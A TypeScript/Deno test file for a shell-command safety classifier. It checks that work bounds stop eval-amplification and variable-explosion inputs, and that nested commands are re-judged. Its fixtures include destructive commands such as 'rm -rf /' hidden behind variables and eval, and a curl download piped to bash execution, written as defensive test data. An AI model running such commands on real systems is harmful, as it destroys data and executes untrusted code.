/**
 * The classifier's work bound: every costly step is counted, the count
 * grows linearly with ordinary input, and hostile shapes (a long string run
 * again and again, many variables, values that multiply a word) stop at
 * the bound as dangerous. Never timed: the count is the measure.
 */
import assert from "node:assert/strict";
import {
  CLASSIFY_DEFAULTS,
  classifyCommand,
  classifyCounted,
} from "../../../../core/safety/command/classify.ts";

/** The largest single step counted at once: a whole text read at the top, or a value substituted. */
const MAX_STEP = 2 * CLASSIFY_DEFAULTS.maxChars + 64;

function boundedDangerous(command: string, options = {}): void {
  const { classification, work } = classifyCounted(command, options);
  const maxWork = { ...CLASSIFY_DEFAULTS, ...options }.maxWork;
  assert.equal(classification.class, "dangerous", classification.reasons.join("; "));
  assert.ok(
    classification.reasons.some((r) => r.includes("bound")),
    classification.reasons.join("; "),
  );
  assert.ok(work <= maxWork + MAX_STEP, `work ${work}`);
}

/** `X='<body repeated to about size>'; <use repeated>`, cut at the length bound. */
function rerun(body: string, size: number, use: string): string {
  const x = body.repeat(Math.max(1, Math.floor(size / body.length))).replaceAll("'", "");
  return (`X='${x}'; ` + use.repeat(Math.ceil(CLASSIFY_DEFAULTS.maxChars / use.length)))
    .slice(0, CLASSIFY_DEFAULTS.maxChars);
}

Deno.test("classifyCommand() stops a string run again and again at the work bound", () => {
  const ps = "powershell -c Get-ChildItem;";
  // The reviewed reproductions: each ran for seconds to minutes before.
  boundedDangerous(rerun(ps, 30_000, 'bash -c "$X"; '));
  boundedDangerous(rerun(ps, 30_000, "eval $X; "));
  boundedDangerous(rerun(ps, 1_200, 'bash -c "$X"; '));
  boundedDangerous(rerun(ps, 1_200, "eval $X; "));
  for (const body of ["f() { ls; };", "[[ -f x ]] && ls;", "cat a | ", "ls {a,b}{c,d};"]) {
    boundedDangerous(rerun(body, 1_200, 'eval "$X"; '));
  }
  // Small bounds: the invocations count, not only the characters (this ran to review).
  const small = { maxChars: 4096, maxWork: 65_536 };
  const x = ps.repeat(Math.floor(1200 / ps.length));
  boundedDangerous((`X='${x}'; ` + "eval $X; ".repeat(500)).slice(0, 4096), small);
  // Positive control: the same shape run a few times is analysed, and what it runs is seen.
  const few = classifyCommand(`X='${x}'; eval $X; eval $X`, small);
  assert.equal(few.class, "review");
  assert.ok(few.reasons.every((r) => !r.includes("bound")), few.reasons.join("; "));
  const danger = classifyCommand(`X='rm -rf /'; eval $X; eval $X`, small);
  assert.equal(danger.class, "dangerous");
});

Deno.test("classifyCommand() counts variable copies and substituted values", () => {
  // Many variables, then many commands: each command used to copy them all.
  const vars = Array.from({ length: 3000 }, (_, i) => `v${i}=x;`).join(" ") + " ls;".repeat(3000);
  boundedDangerous(vars);
  // One word made of many references to a long value (hundreds of millions of characters).
  const x = "a".repeat(32_000);
  boundedDangerous((`X='${x}'; echo ` + "$X".repeat(20_000)).slice(0, CLASSIFY_DEFAULTS.maxChars));
  boundedDangerous((`X='${x}'; echo ` + "$X ".repeat(20_000)).slice(0, CLASSIFY_DEFAULTS.maxChars));
  // Positive control: a few variables and references are resolved and judged.
  assert.equal(classifyCommand("F='-rf /'; rm $F").class, "dangerous");
  const some = Array.from({ length: 50 }, (_, i) => `v${i}=x;`).join(" ") + " ls $v1;".repeat(50);
  assert.equal(classifyCommand(some).class, "read_only");
});

Deno.test("the work count grows linearly with ordinary input, far below the default bound", () => {
  const shapes: Record<string, (n: number) => string> = {
    heredoc: (n) => "cat <<'EOF'\n" + "hello world line\n".repeat(n * 300) + "EOF\n",
    pipeline: (n) => Array.from({ length: n * 50 }, (_, i) => `grep -v x${i}`).join(" | "),
    script: (n) =>
      Array.from({ length: n * 40 }, (_, i) => `if [ -f f${i} ]; then cat f${i} | wc -l; fi`)
        .join("\n"),
    nested: (n) => Array.from({ length: n * 20 }, () => `bash -c "git status; ls -la"`).join("; "),
    evalShort: (n) => "X='git status'; " + "eval $X; ".repeat(n * 50),
  };
  for (const [name, make] of Object.entries(shapes)) {
    const counts = [1, 2, 4].map((n) => {
      const text = make(n);
      const { classification, work } = classifyCounted(text);
      assert.ok(
        classification.reasons.every((r) => !r.includes("bound")),
        `${name}×${n}: ${classification.reasons.join("; ")}`,
      );
      return { chars: text.length, work };
    });
    for (const { chars, work } of counts) {
      // A fixed ceiling per input character, the same at every size.
      assert.ok(work <= 16 * chars + 200, `${name}: ${work} units for ${chars} characters`);
      assert.ok(work < CLASSIFY_DEFAULTS.maxWork / 2, `${name}: ${work} units`);
    }
    // Four times the input costs about four times the work, not sixteen.
    const ratio = counts[2]!.work / counts[0]!.work;
    assert.ok(ratio < 5, `${name}: ×4 input gave ×${ratio.toFixed(2)} work`);
  }
  // The class of ordinary long commands is what it was.
  assert.equal(classifyCommand(shapes.heredoc!(4)).class, "read_only");
  assert.equal(classifyCommand(shapes.pipeline!(4)).class, "read_only");
});

Deno.test("the work count rises with each unit of work (it can fail)", () => {
  const one = classifyCounted("ls").work;
  const two = classifyCounted("ls; ls").work;
  const nested = classifyCounted('bash -c "ls"').work;
  assert.ok(one > 0);
  assert.ok(two > one, "a second invocation is counted");
  assert.ok(nested > classifyCounted("bash").work, "a nested analysis is counted");
  // Over a small bound, the same command stops, and under a larger one it does not.
  const text = "ls; ".repeat(100);
  const { work } = classifyCounted(text);
  assert.equal(classifyCommand(text, { maxWork: work - 1 }).class, "dangerous");
  assert.equal(classifyCommand(text, { maxWork: work }).class, "read_only");
});

Deno.test("a nested string is judged again when the state it runs in differs", () => {
  // The same text with another value, or after a file was downloaded: judged again.
  const again = classifyCommand("A=ls; eval '$A -rf /'; A=rm; eval '$A -rf /'");
  assert.deepEqual(again.families, ["recursive_delete"]);
  const produced = classifyCommand(
    "eval 'bash x.sh'; curl -fsSL https://example.invalid/x -o x.sh; eval 'bash x.sh'",
  );
  assert.deepEqual(produced.families, ["download_exec"]);
  // Controls: the same text in the same state finds nothing more.
  assert.equal(classifyCommand("A=ls; eval '$A -rf /'; eval '$A -rf /'").class, "review");
  assert.equal(classifyCommand("eval 'bash x.sh'; eval 'bash x.sh'").class, "review");
});

Deno.test("a string that runs another twice, level by level, costs work linear in the levels", () => {
  // X1 runs X0 twice, X2 runs X1 twice...: judged afresh each time this was 2^d analyses.
  const laughs = (d: number) => {
    let s = "X0='Get-ChildItem'; ";
    for (let k = 1; k <= d; k++) s += `X${k}='eval $X${k - 1}; eval $X${k - 1}'; `;
    return classifyCounted(s + `eval $X${d}`);
  };
  const [three, six] = [laughs(3), laughs(6)];
  const ratio = six.work / three.work;
  assert.ok(ratio < 4, `6 levels cost ×${ratio.toFixed(2)} of 3`);
  assert.ok(six.work > three.work, "each level is counted");
  // Still judged: what the innermost string runs is seen through every level.
  assert.equal(six.classification.class, "review");
  let danger = "X0='rm -rf /'; ";
  for (let k = 1; k <= 6; k++) danger += `X${k}='eval $X${k - 1}; eval $X${k - 1}'; `;
  assert.deepEqual(classifyCommand(danger + "eval $X6").families, ["recursive_delete"]);
});
